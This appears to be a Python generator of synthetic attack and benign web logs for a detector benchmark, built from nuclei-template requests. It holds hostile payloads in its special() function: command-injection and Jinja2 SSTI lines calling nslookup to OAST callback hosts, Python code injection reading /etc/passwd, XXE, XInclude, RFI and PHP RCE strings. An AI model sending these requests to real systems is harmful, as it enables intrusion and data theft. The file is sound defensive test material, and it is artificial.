#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log and benign.labels of
# tests/bench/data/thirdparty12 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
#
# Angle of this set: ProjectDiscovery nuclei-templates OUTSIDE http/cves/ -- exposures,
# misconfiguration, non-CVE vulnerabilities, default logins, exposed panels and
# technology fingerprints, fuzzing and DAST templates.  One request per attacking source:
# the FIRST request the template sends (method, path and query; for POST templates only
# the request line, because nginx does not log bodies), with the template's first payload
# value and its helper functions (randstr, interactsh-url, base64, url_encode) evaluated.
#
# Templates read in a stored copy of the repository: rxerium/nuclei-templates at
# a64f60eb7a5de03683908330b1342c4fb9473a78 (3 Feb 2026), a fork that tracks
# projectdiscovery/nuclei-templates (MIT licence, (c) ProjectDiscovery).
#
#   python3 gen.py            rewrites the five data files next to this script
#   python3 gen.py --check    also checks that no address here appears in any other
#                             set's *.log under tests/bench/data (exit status 1 if one does)
import base64, datetime, ipaddress, os, random, sys, urllib.parse, glob, collections

OUT = os.path.dirname(os.path.abspath(__file__))
SEED = 20260217
DAY = datetime.datetime(2026, 2, 17, 0, 0, 0)
SITE = 'www.example.org'          # the Host the scans were pointed at ({{Hostname}}, {{FQDN}})
ATTACK_NET = ipaddress.ip_network('100.65.64.0/20')
BENIGN_NET = ipaddress.ip_network('100.65.176.0/20')
REV = 'rxerium/nuclei-templates@a64f60eb (fork of projectdiscovery/nuclei-templates, MIT)'

# ----------------------------------------------------------------- user agents
# Browser releases current in mid-February 2026: Chrome/Edge 144-145, Firefox 147,
# Safari 26.2/26.3 (iOS keeps reporting "OS 18_7" since Safari 26).
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
 'chw4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:147.0) Gecko/20100101 Firefox/147.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.3 Safari/605.1.15",
 'sfm2': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0",
 'edg4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Edg/144.0.0.0",
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.3 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Mobile Safari/537.36",
 'and4': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Mobile Safari/537.36",
}
BROWSERS = ['chw', 'chw', 'chw', 'chw4', 'chm', 'chm', 'chl', 'ffw', 'ffw', 'ffl', 'ffm',
            'sfm', 'sfm2', 'edg', 'edg4', 'ios', 'ios', 'and', 'and4']

# ----------------------------------------------------------------- nuclei helper functions
ALNUM = 'abcdefghijklmnopqrstuvwxyz0123456789'
OAST = ['oast.pro', 'oast.live', 'oast.site', 'oast.online', 'oast.fun', 'oast.me']

def url_encode(s):
    """nuclei's url_encode() DSL helper (Go url.QueryEscape: space becomes '+')"""
    return urllib.parse.quote_plus(s, safe='')

def b64(s):
    return base64.b64encode(s.encode()).decode()

def form(s):
    """a query value as nuclei's DAST fuzzer re-encodes it (application/x-www-form-urlencoded)"""
    return urllib.parse.quote_plus(s, safe='')

class Ctx:
    """the per-scan random values nuclei generates ({{randstr}}, {{interactsh-url}}, ...)"""
    def __init__(self, r):
        self.r = r
        self.iurl = ''.join(r.choice(ALNUM) for _ in range(33)) + '.' + r.choice(OAST)
        self.randstr = ''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789') for _ in range(27))
        self.rand1 = str(r.randint(111, 999))
        self.rand2 = str(r.randint(111, 999))

    def rand_base(self, n, chars=ALNUM):
        return ''.join(self.r.choice(chars) for _ in range(n))

    def expand(self, s):
        s = s.replace('{{interactsh-url}}', self.iurl).replace('{{randstr}}', self.randstr)
        s = s.replace('{{rand1}}', self.rand1).replace('{{rand2}}', self.rand2)
        s = s.replace('{{num}}', '999999999').replace('{{FQDN}}', SITE).replace('{{Hostname}}', SITE)
        for n in (4, 5, 6):
            while '{{rand_base(%d)}}' % n in s:
                s = s.replace('{{rand_base(%d)}}' % n, self.rand_base(n), 1)
        while '{{rand_text_numeric(6)}}' in s:
            s = s.replace('{{rand_text_numeric(6)}}', ''.join(self.r.choice('0123456789') for _ in range(6)), 1)
        return s

# request targets that need a template DSL expression evaluated
def special(tid, c):
    if tid == 'thinkcmf-rce':
        php = '<?php file_put_contents("%s.php","<?php echo md5("thinkcmf-rce");unlink(__FILE__);");' % c.randstr
        return '/index.php?a=fetch&content=' + url_encode(php)
    if tid == 'tongda-getdata-rce':
        return ('/general/appbuilder/web/portal/gateway/getdata?activeTab=%E5%27%19,1%3D%3Eeval(base64_decode(%22'
                + b64('echo md5(999999999);') + '%22)))%3B/*&id=19&module=Carouselimage')
    if tid == 'timekeeper-default-login':
        return '/login?arg1=%s&arg2=%s' % (url_encode(b64('admin')), url_encode(b64('timekeeper')))
    if tid == 'atlona-default-login':
        return '/cgi-bin/login.cgi?ssid=' + b64('admin:Atlona')
    # DAST templates: the first payload applied to one parameter of a URL the scan was given
    if tid == 'sqli-error-based':          # postfix "'"
        return '/product.php?id=14' + form("'")
    if tid == 'cmdi-blind-oast-polyglot':  # postfix, first polyglot, marker = interactsh url
        m = c.iurl
        return '/tools/ping.php?host=' + form('10.0.0.1' + "&nslookup %s&'\\\"`0&nslookup %s&`'" % (m, m))
    if tid == 'python-code-injection':     # replace, first payload, Command = cat /etc/passwd
        return '/api/calc?expr=' + form('eval(compile("""for x in range(1):\\\\n import os\\\\n os.popen(r\'cat /etc/passwd\').read()""",\'\',\'single\'))')
    if tid == 'generic-xxe':               # a parameter whose name contains "xml"
        x = c.rand_base(6, 'abc')
        return '/api/import?xml=' + form('<!DOCTYPE %s [ <!ENTITY %s SYSTEM "file:///c:/windows/win.ini"> ]><x>&%s;</x>' % (x, x, x))
    if tid == 'xinclude-injection':
        return '/report/render?doc=' + form('<asd xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></asd>')
    if tid == 'open-redirect-bypass':      # one of its redirect parameter names, first payload {{Hostname}}.oast.me
        return '/account/login?continue=' + form(SITE + '.oast.me')
    if tid == 'generic-rfi':
        return '/index.php?page=' + form('https://rfi.nessus.org/rfi.txt')
    if tid == 'jinja2-oob':                # postfix, first payload
        return '/greet?name=' + form("guest{{self.__init__.__globals__.__builtins__.__import__('os').popen('nslookup+-type=SRV+%s').read()}}" % c.iurl)
    return None

# ----------------------------------------------------------------- the templates
# E(template id, category, product, template path, method, first request target)
# Targets keep the template's own {{...}} placeholders; Ctx.expand() fills them in.
TABLE = []
def E(tid, cat, product, path, method, target):
    TABLE.append(dict(tid=tid, cat=cat, product=product, path=path, method=method, target=target))

E('drupal-jsonapi-user-listing', 'exposure', 'Drupal', 'http/exposures/apis/drupal-jsonapi-user-listing.yaml', 'GET', '/jsonapi/user/user')
E('frigate-api-exposure', 'exposure', 'Frigate NVR', 'http/exposures/apis/frigate-api-exposure.yaml', 'GET', '/api/config')
E('postman-collection-exposure', 'exposure', 'Postman', 'http/exposures/apis/postman-collection-exposure.yaml', 'GET', '/postman.json')
E('redfish-api', 'exposure', 'DMTF Redfish BMC', 'http/exposures/apis/redfish-api.yaml', 'GET', '/redfish/v1/')
E('traefik-api-enabled', 'exposure', 'Traefik', 'http/exposures/apis/traefik-api-enabled.yaml', 'GET', '/api/rawdata')
E('wadl-api', 'exposure', 'JAX-RS WADL', 'http/exposures/apis/wadl-api.yaml', 'GET', '/application.wadl')
E('batflat-sqlite-exposure', 'exposure', 'Batflat', 'http/exposures/backups/batflat-sqlite-exposure.yaml', 'GET', '/inc/data/database.sdb')
E('froxlor-database-backup', 'exposure', 'Froxlor', 'http/exposures/backups/froxlor-database-backup.yaml', 'GET', '/install/froxlor.sql')
E('generic-php-files', 'exposure', 'PHP site backups', 'http/exposures/backups/generic-php-files.yaml', 'GET', '/settings.php.bak')
E('sql-server-dump', 'exposure', 'SQL Server backup', 'http/exposures/backups/sql-server-dump.yaml', 'GET', '/sa.bak')
E('zip-backup-files', 'exposure', 'site archive', 'http/exposures/backups/zip-backup-files.yaml', 'GET', '/{{FQDN}}.tar')
E('alibaba-canal-info-leak', 'exposure', 'Alibaba Canal', 'http/exposures/configs/alibaba-canal-info-leak.yaml', 'GET', '/api/v1/canal/config/1/1')
E('amazon-docker-config', 'exposure', 'AWS Elastic Beanstalk', 'http/exposures/configs/amazon-docker-config.yaml', 'GET', '/Dockerrun.aws.json')
E('ansible-config-disclosure', 'exposure', 'Ansible', 'http/exposures/configs/ansible-config-disclosure.yaml', 'GET', '/ansible.cfg')
E('apache-jspwiki-ip-userenum', 'exposure', 'Apache JSPWiki', 'http/exposures/configs/apache-jspwiki-ip-userenum.yaml', 'GET', '/Wiki.jsp?page=SystemInfo')
E('apache-kyuubi-config', 'exposure', 'Apache Kyuubi', 'http/exposures/configs/apache-kyuubi-config.yaml', 'GET', '/engine-ui/0.0.0.0:4040/environment/')
E('apache-pinot-config', 'exposure', 'Apache Pinot', 'http/exposures/configs/apache-pinot-config.yaml', 'GET', '/appconfigs')
E('appspec-yml-disclosure', 'exposure', 'AWS CodeDeploy', 'http/exposures/configs/appspec-yml-disclosure.yaml', 'GET', '/appspec.yml')
E('aws-config', 'exposure', 'AWS CLI', 'http/exposures/configs/aws-config.yaml', 'GET', '/.aws/config')
E('awstats-script', 'exposure', 'AWStats', 'http/exposures/configs/awstats-script.yaml', 'GET', '/awstats.pl')
E('blazor-boot', 'exposure', 'Blazor WebAssembly', 'http/exposures/configs/blazor-boot.yaml', 'GET', '/_framework/blazor.boot.json')
E('bugzilla-config', 'exposure', 'Bugzilla', 'http/exposures/configs/bugzilla-config.yaml', 'GET', '/config.cgi')
E('circleci-config', 'exposure', 'CircleCI', 'http/exposures/configs/circleci-config.yaml', 'GET', '/.circleci/config.yml')
E('cisco-network-config', 'exposure', 'Cisco IP Phone', 'http/exposures/configs/cisco-network-config.yaml', 'GET', '/CGI/Java/Serviceability?adapter=device.statistics.configuration')
E('coremail-config-disclosure', 'exposure', 'Coremail', 'http/exposures/configs/coremail-config-disclosure.yaml', 'GET', '/mailsms/s?func=ADMIN:appState&dumpConfig=/')
E('dbeaver-database-connections', 'exposure', 'DBeaver', 'http/exposures/files/dbeaver-database-connections.yaml', 'GET', '/.dbeaver/data-sources.json')
E('debug-vars', 'exposure', 'Go expvar', 'http/exposures/configs/debug-vars.yaml', 'GET', '/debug/vars')
E('docker-compose-config', 'exposure', 'Docker Compose', 'http/exposures/configs/docker-compose-config.yaml', 'GET', '/docker-compose.yml')
E('exposed-authentication-asmx', 'exposure', 'SharePoint', 'http/exposures/configs/exposed-authentication-asmx.yaml', 'GET', '/_vti_bin/Authentication.asmx?op=Mode')
E('exposed-bitkeeper', 'exposure', 'BitKeeper', 'http/exposures/configs/exposed-bitkeeper.yaml', 'GET', '/BitKeeper/etc/config')
E('exposed-hg', 'exposure', 'Mercurial', 'http/exposures/configs/exposed-hg.yaml', 'GET', '/.hg/hgrc')
E('exposed-filezilla-config', 'exposure', 'FileZilla', 'http/exposures/configs/exposed-filezilla-config.yaml', 'GET', '/files/FileZilla.xml')
E('gmail-api-client-secrets', 'exposure', 'Google OAuth client', 'http/exposures/configs/gmail-api-client-secrets.yaml', 'GET', '/client_secrets.json')
E('hikvision-info-leak', 'exposure', 'Hikvision', 'http/exposures/configs/hikvision-info-leak.yaml', 'GET', '/config/user.xml')
E('hp-ilo-serial-key-disclosure', 'exposure', 'HPE iLO', 'http/exposures/configs/hp-ilo-serial-key-disclosure.yaml', 'GET', '/xmldata?item=CpqKey')
E('htpasswd-detection', 'exposure', 'Apache httpd', 'http/exposures/configs/htpasswd-detection.yaml', 'GET', '/.htpasswd')
E('jetbrains-datasource', 'exposure', 'JetBrains IDE', 'http/exposures/configs/jetbrains-datasources.yaml', 'GET', '/.idea/dataSources.xml')
E('jfrog-artifactory-build-exposure', 'exposure', 'JFrog Artifactory', 'http/exposures/configs/jfrog-artifactory-build-exposure.yaml', 'GET', '/artifactory/api/build')
E('joomla-config-dist-file', 'exposure', 'Joomla', 'http/exposures/configs/joomla-config-dist-file.yaml', 'GET', '/configuration.php-dist')
E('keycloak-admin-console-config', 'exposure', 'Keycloak', 'http/exposures/configs/keycloak-admin-console-config.yaml', 'GET', '/admin/master/console/config')
E('magento-config-disclosure', 'exposure', 'Magento', 'http/exposures/configs/magento-config-disclosure.yaml', 'GET', '/app/etc/local.xml')
E('magicinfo-config-file', 'exposure', 'Samsung MagicInfo', 'http/exposures/configs/magicinfo-config-exposure.yaml', 'GET', '/MagicInfo/config.js')
E('mysql-config-exposure', 'exposure', 'MySQL', 'http/exposures/configs/mysql-config-exposure.yaml', 'GET', '/.my.cnf')
E('n8n-config', 'exposure', 'n8n', 'http/exposures/configs/n8n-config.yaml', 'GET', '/rest/settings')
E('nagios-status-page', 'exposure', 'Nagios Core', 'http/exposures/configs/nagios-status-page.yaml', 'GET', '/nagios/cgi-bin/status.cgi')
E('node-repl-history-disclosure', 'exposure', 'Node.js', 'http/exposures/configs/node-repl-history-disclosure.yaml', 'GET', '/.node_repl_history')
E('opcache-status-exposure', 'exposure', 'PHP OPcache', 'http/exposures/configs/opcache-status-exposure.yaml', 'GET', '/opcache-status/')
E('oracle-ebs-credentials', 'exposure', 'Oracle E-Business Suite', 'http/exposures/configs/oracle-ebs-credentials.yaml', 'GET', '/OA_HTML/jtfwrepo.xml')
E('proxy-wpad-exposure', 'exposure', 'WPAD', 'http/exposures/configs/proxy-wpad-exposure.yaml', 'GET', '/wpad.dat')
E('qdpm-info-leak', 'exposure', 'qdPM', 'http/exposures/configs/qdpm-info-leak.yaml', 'GET', '/core/config/databases.yml')
E('rails-database-config', 'exposure', 'Ruby on Rails', 'http/exposures/configs/rails-database-config.yaml', 'GET', '/config/database.yml')
E('redis-config', 'exposure', 'Redis', 'http/exposures/configs/redis-config.yaml', 'GET', '/redis.conf')
E('s3cfg-config', 'exposure', 's3cmd', 'http/exposures/configs/s3cfg-config.yaml', 'GET', '/.s3cfg')
E('sftp-credentials-exposure', 'exposure', 'Sublime SFTP', 'http/exposures/configs/sftp-credentials-exposure.yaml', 'GET', '/sftp-config.json')
E('ssh-known-hosts', 'exposure', 'OpenSSH', 'http/exposures/configs/ssh-known-hosts.yaml', 'GET', '/.ssh/known_hosts')
E('starnet-dmb-bs-ftp-credentials-disclosure', 'exposure', 'Starnet DMB-BS', 'http/exposures/configs/starnet-dmb-bs-ftp-credentials-disclosure.yaml', 'GET', '/dmb/out/taskexport.jsp?taskcode')
E('symfony-security-config', 'exposure', 'Symfony', 'http/exposures/configs/symfony-security-config.yaml', 'GET', '/config/packages/security.yaml')
E('wpconfig-aws-keys', 'exposure', 'WordPress', 'http/exposures/configs/wpconfig-aws-keys.yaml', 'GET', '/wp-config.php-backup')
E('yii-debugger', 'exposure', 'Yii', 'http/exposures/configs/yii-debugger.yaml', 'GET', '/debug/default/view.html')
E('axis-happyaxis', 'exposure', 'Apache Axis2', 'http/exposures/files/axis-happyaxis.yaml', 'GET', '/axis2/axis2-web/HappyAxis.jsp')
E('cold-fusion-cfcache-map', 'exposure', 'Adobe ColdFusion', 'http/exposures/files/cold-fusion-cfcache-map.yaml', 'GET', '/cfcache.map')
E('core-dump', 'exposure', 'Linux core dump', 'http/exposures/files/core-dump.yaml', 'GET', '/core')
E('ds-store-file', 'exposure', 'macOS Finder', 'http/exposures/files/ds-store-file.yaml', 'GET', '/.DS_Store')
E('domcfg-page', 'exposure', 'HCL Domino', 'http/exposures/files/domcfg-page.yaml', 'GET', '/domcfg.nsf')
E('kubernetes-etcd-keys', 'exposure', 'Kubernetes', 'http/exposures/files/kubernetes-etcd-keys.yaml', 'GET', '/apiserver-etcd-client.key')
E('putty-private-key-disclosure', 'exposure', 'PuTTY', 'http/exposures/files/putty-private-key-disclosure.yaml', 'GET', '/my.ppk')
E('postgres-credentials-exposure', 'exposure', 'PostgreSQL', 'http/exposures/files/postgres-credentials-exposure.yaml', 'GET', '/.pgpass')
E('rails-secret-token-disclosure', 'exposure', 'Ruby on Rails', 'http/exposures/files/rails-secret-token-disclosure.yaml', 'GET', '/config/initializers/secret_token.rb')
E('ws-ftp-ini', 'exposure', 'WS_FTP', 'http/exposures/files/ws-ftp-ini.yaml', 'GET', '/ws_ftp.ini')
E('vscode-launch', 'exposure', 'Visual Studio Code', 'http/exposures/files/vscode-launch.yaml', 'GET', '/.vscode/launch.json')
E('cacti-log-exposure', 'exposure', 'Cacti', 'http/exposures/logs/cacti-log-exposure.yaml', 'GET', '/cacti/log/cacti.log')
E('craftcms-log-disclosure', 'exposure', 'Craft CMS', 'http/exposures/logs/craftcms-log-disclosure.yaml', 'GET', '/storage/logs/web.log')
E('elmah-log-file', 'exposure', 'ELMAH', 'http/exposures/logs/elmah-log-file.yaml', 'GET', '/elmah')
E('firebase-debug-log', 'exposure', 'Firebase CLI', 'http/exposures/logs/firebase-debug-log.yaml', 'GET', '/firebase-debug.log')
E('go-pprof-debug', 'exposure', 'Go pprof', 'http/exposures/logs/go-pprof-debug.yaml', 'GET', '/debug/pprof/heap?debug=1')
E('jboss-seam-debug-page', 'exposure', 'JBoss Seam', 'http/exposures/logs/jboss-seam-debug-page.yaml', 'GET', '/debug.seam')
E('laravel-log-file', 'exposure', 'Laravel', 'http/exposures/logs/laravel-log-file.yaml', 'GET', '/storage/logs/laravel.log')
E('pyramid-debug-toolbar', 'exposure', 'Pyramid', 'http/exposures/logs/pyramid-debug-toolbar.yaml', 'GET', '/_debug_toolbar/')
E('servicestack-requestlogs', 'exposure', 'ServiceStack', 'http/exposures/logs/servicestack-requestlogs.yaml', 'GET', '/requestlogs')
E('teampass-ldap', 'exposure', 'TeamPass', 'http/exposures/logs/teampass-ldap.yaml', 'GET', '/files/ldap.debug.txt')
E('trace-axd-detect', 'exposure', 'ASP.NET', 'http/exposures/logs/trace-axd-detect.yaml', 'GET', '/Trace.axd')
E('wp-enable-media-replace-log', 'exposure', 'Enable Media Replace (WordPress plugin)', 'http/exposures/logs/wp-enable-media-replace-log.yaml', 'GET', '/wp-content/uploads/EnableMediaReplace.log')
E('zm-system-log-detect', 'exposure', 'ZoneMinder', 'http/exposures/logs/zm-system-log-detect.yaml', 'GET', '/?view=log')
E('axiom-digitalocean-key-exposure', 'exposure', 'Axiom', 'http/exposures/tokens/digitalocean/axiom-digitalocean-key-exposure.yaml', 'GET', '/.axiom/accounts/do.json')
E('aem-crx-bypass', 'misconfig', 'Adobe Experience Manager', 'http/misconfiguration/aem/aem-crx-bypass.yaml', 'GET', '/crx/packmgr/list.jsp;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0a;%0aa.css?_dc=1615863080856&_charset_=utf-8&includeVersions=true')
E('aem-querybuilder-bypass', 'misconfig', 'Adobe Experience Manager', 'http/misconfiguration/aem/aem-querybuilder-bypass.yaml', 'GET', "/bin/querybuilder.json;x='x/graphql/execute/json/x'?path=%2Fhome%2Fusers&type=rep%3AUser&p.hits=selective&p.properties=rep%3Apassword&p.limit=3")
E('coldfusion-cfide-dir-listing', 'misconfig', 'Adobe ColdFusion', 'http/misconfiguration/adobe/coldfusion-cfide-dir-listing.yaml', 'GET', '/CFIDE/')
E('apache-couchdb-unauth', 'misconfig', 'Apache CouchDB', 'http/misconfiguration/apache/apache-couchdb-unauth.yaml', 'GET', '/_config')
E('apache-nifi-unauth', 'misconfig', 'Apache NiFi', 'http/misconfiguration/apache/apache-nifi-unauth.yaml', 'GET', '/nifi-api/access/config')
E('apache-server-status', 'misconfig', 'Apache httpd', 'http/misconfiguration/apache/apache-server-status.yaml', 'GET', '/server-info')
E('apache-tomcat-manager-path-normalization', 'misconfig', 'Apache Tomcat', 'http/misconfiguration/apache/apache-tomcat-manager-path-normalization.yaml', 'GET', '/..;/manager/html')
E('artifactory-anonymous-deploy', 'misconfig', 'JFrog Artifactory', 'http/misconfiguration/artifactory-anonymous-deploy.yaml', 'GET', '/artifactory/ui/repodata?deploy=true')
E('aspx-debug-mode', 'misconfig', 'ASP.NET', 'http/misconfiguration/aspx-debug-mode.yaml', 'DEBUG', '/Foobar-debug.aspx')
E('bitbucket-auth-bypass', 'misconfig', 'Bitbucket', 'http/misconfiguration/bitbucket-auth-bypass.yaml', 'GET', '/admin%20/db')
E('casdoor-users-password', 'misconfig', 'Casdoor', 'http/misconfiguration/casdoor-users-password.yaml', 'GET', '/api/get-users?p=123&pageSize=123')
E('clickhouse-unauth-api', 'misconfig', 'ClickHouse', 'http/misconfiguration/clickhouse-unauth-api.yaml', 'GET', '/?query=SHOW%20DATABASES')
E('default-spx-key', 'misconfig', 'SPX profiler', 'http/misconfiguration/default-spx-key.yaml', 'GET', '/?SPX_KEY=dev&SPX_UI_URI=/')
E('django-debug-config-enabled', 'misconfig', 'Django', 'http/misconfiguration/django-debug-config-enabled.yaml', 'GET', '/NON_EXISTING_PATH/')
E('dlink-config-dump', 'misconfig', 'D-Link', 'http/misconfiguration/dlink-config-dump.yaml', 'GET', '/cgi-bin/ExportSettings.sh')
E('misconfigured-docker', 'misconfig', 'Docker Engine', 'http/misconfiguration/misconfigured-docker.yaml', 'GET', '/images/json')
E('druid-monitor', 'misconfig', 'Alibaba Druid', 'http/misconfiguration/druid-monitor.yaml', 'GET', '/druid/index.html')
E('drupal-user-enum-ajax', 'misconfig', 'Drupal', 'http/misconfiguration/drupal/drupal-user-enum-ajax.yaml', 'GET', '/admin/views/ajax/autocomplete/user/a')
E('ecology-info-leak', 'misconfig', 'Weaver e-cology', 'http/misconfiguration/ecology-info-leak.yaml', 'GET', '/api/portalTsLogin/utils/getE9DevelopAllNameValue2?fileName=portaldev_%2f%2e%2e%2fweaver%2eproperties')
E('http-etcd-unauthenticated-api-data-leak', 'misconfig', 'etcd', 'http/misconfiguration/etcd-unauthenticated-api.yaml', 'GET', '/v2/auth/roles')
E('h2o-arbitary-file-read', 'misconfig', 'H2O', 'http/misconfiguration/h2o/h2o-arbitary-file-read.yaml', 'GET', '/3/Typeahead/files?src=%2F&limit=10')
E('gocd-encryption-key', 'misconfig', 'GoCD', 'http/misconfiguration/gocd/gocd-encryption-key.yaml', 'GET', '/go/add-on/business-continuity/api/cipher.aes')
E('gitlab-public-repos', 'misconfig', 'GitLab', 'http/misconfiguration/gitlab/gitlab-public-repos.yaml', 'GET', '/api/v4/projects')
E('graphql-get-method', 'misconfig', 'GraphQL', 'http/misconfiguration/graphql/graphql-get-method.yaml', 'GET', '/graphql?query={__typename}')
E('hashicorp-consul-unauth', 'misconfig', 'HashiCorp Consul', 'http/misconfiguration/hashicorp-consul-unauth.yaml', 'GET', '/v1/health/service/consul')
E('hikvision-env', 'misconfig', 'Hikvision', 'http/misconfiguration/hikvision-env.yaml', 'GET', '/artemis/env')
E('ibm-websphere-xml', 'misconfig', 'IBM WebSphere', 'http/misconfiguration/ibm-websphere-xml.yaml', 'GET', '/iojs/%2e/WEB-INF/web.xml')
E('typo3-installer', 'misconfig', 'TYPO3', 'http/misconfiguration/installer/typo3-installer.yaml', 'GET', '/typo3/install.php')
E('phpbb-installer', 'misconfig', 'phpBB', 'http/misconfiguration/installer/phpbb-installer.yaml', 'GET', '/install/app.php')
E('wp-install', 'misconfig', 'WordPress', 'http/misconfiguration/installer/wp-install.yaml', 'GET', '/wp-admin/install.php?step=1')
E('jboss-jmx-console-unauth', 'misconfig', 'JBoss', 'http/misconfiguration/jboss-jmx-console-unauth.yaml', 'GET', '/jmx-console/HtmlAdaptor?action=displayMBeans')
E('jolokia-mbean-search', 'misconfig', 'Jolokia', 'http/misconfiguration/jolokia/jolokia-mbean-search.yaml', 'GET', '/jolokia/search/*:test=test')
E('kubernetes-pods-api', 'misconfig', 'Kubelet', 'http/misconfiguration/kubernetes/kubernetes-pods-api.yaml', 'GET', '/pods')
E('laravel-debug-enabled', 'misconfig', 'Laravel', 'http/misconfiguration/laravel-debug-enabled.yaml', 'GET', '/_ignition/health-check')
E('mlflow-unauth', 'misconfig', 'MLflow', 'http/misconfiguration/mlflow-unauth.yaml', 'GET', '/ajax-api/2.0/preview/mlflow/experiments/get?experiment_id=0')
E('ms-exchange-local-domain', 'misconfig', 'Microsoft Exchange', 'http/misconfiguration/microsoft/ms-exchange-local-domain.yaml', 'GET', '/autodiscover/autodiscover.json?Protocol=ActiveSync&Email=user@domain.tld&RedirectCount=1')
E('sharepoint-site-metadata-disclosure', 'misconfig', 'SharePoint', 'http/misconfiguration/microsoft/sharepoint-site-metadata-disclosure.yaml', 'GET', '/_api/site')
E('mingyu-xmlrpc-sock-adduser', 'misconfig', 'Mingyu WAF', 'http/misconfiguration/mingyu-xmlrpc-sock-adduser.yaml', 'POST', '/service/?unix:/../../../../var/run/rpc/xmlrpc.sock|http://{{rand_base(4)}}/wsrpc')
E('nacos-authentication-bypass', 'misconfig', 'Nacos', 'http/misconfiguration/nacos-authentication-bypass.yaml', 'GET', '/nacos/v1/auth/users?pageNo=1&pageSize=10&accessToken=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJuYWNvcyIsImV4cCI6OTk5OTk5OTk5OTl9.-isk56R8NfioHVYmpj4oz92nUteNBCN3HRd0-Hfk76g')
E('nexus-repository-anonymous-access', 'misconfig', 'Sonatype Nexus', 'http/misconfiguration/nexus-repository-anonymous-access.yaml', 'GET', '/service/rest/v1/repositories')
E('nginx-status', 'misconfig', 'nginx', 'http/misconfiguration/nginx/nginx-status.yaml', 'GET', '/nginx_status')
E('ollama-improper-authorization', 'misconfig', 'Ollama', 'http/misconfiguration/ollama-improper-authorization.yaml', 'GET', '/api/tags')
E('php-fpm-status', 'misconfig', 'PHP-FPM', 'http/misconfiguration/php-fpm-status.yaml', 'GET', '/status?full')
E('prometheus-config', 'misconfig', 'Prometheus', 'http/misconfiguration/prometheus/prometheus-config.yaml', 'GET', '/api/v1/status/config')
E('metadata-service-aws', 'misconfig', 'open proxy (AWS metadata)', 'http/misconfiguration/proxy/metadata-aws.yaml', 'GET', 'http://aws.oast.online/latest/meta-data/')
E('metadata-service-azure', 'misconfig', 'open proxy (Azure metadata)', 'http/misconfiguration/proxy/metadata-azure.yaml', 'GET', 'http://aws.oast.online/metadata/instance?api-version=2021-02-01')
E('open-proxy-external', 'misconfig', 'open proxy (external)', 'http/misconfiguration/proxy/open-proxy-external.yaml', 'GET', 'https://test.s3.amazonaws.com')
E('put-method-enabled', 'misconfig', 'HTTP PUT', 'http/misconfiguration/put-method-enabled.yaml', 'PUT', '/testing-put.txt')
E('rack-mini-profiler', 'misconfig', 'rack-mini-profiler', 'http/misconfiguration/rack-mini-profiler.yaml', 'GET', '/?pp=env')
E('root-path-disclosure', 'misconfig', 'root path rewrite', 'http/misconfiguration/root-path-disclosure.yaml', 'GET', '/home/000~ROOT~000/etc/passwd')
E('s3-torrent', 'misconfig', 'Amazon S3', 'http/misconfiguration/s3-torrent.yaml', 'GET', '/?torrent')
E('sap-netweaver-info-leak', 'misconfig', 'SAP NetWeaver', 'http/misconfiguration/sap/sap-netweaver-info-leak.yaml', 'GET', '/sap/public/info')
E('servicenow-title-injection', 'misconfig', 'ServiceNow', 'http/misconfiguration/servicenow-title-injection.yaml', 'GET', '/login.do?jvar_page_title=<style><foo>Injected Title</foo></style>')
E('service-pwd', 'misconfig', 'Microsoft FrontPage', 'http/misconfiguration/service-pwd.yaml', 'GET', '/_vti_pvt/service.pwd')
E('shell-history', 'misconfig', 'bash', 'http/misconfiguration/shell-history.yaml', 'GET', '/.bash_history')
E('shibboleth-open-redirect', 'misconfig', 'Shibboleth SP', 'http/misconfiguration/shibboleth-open-redirect.yaml', 'GET', '/Shibboleth.sso/Logout?return=https://{{randstr}}.interact.sh')
E('sitecore-lfi', 'misconfig', 'Sitecore', 'http/misconfiguration/sitecore-lfi.yaml', 'GET', '/api/sitecore/Sitecore.Mvc.DeviceSimulator.Controllers.SimulatorController,Sitecore.Mvc.DeviceSimulator.dll/Preview?previewPath=/App_Data/license.xml')
E('springboot-env', 'misconfig', 'Spring Boot Actuator', 'http/misconfiguration/springboot/springboot-env.yaml', 'GET', '/env')
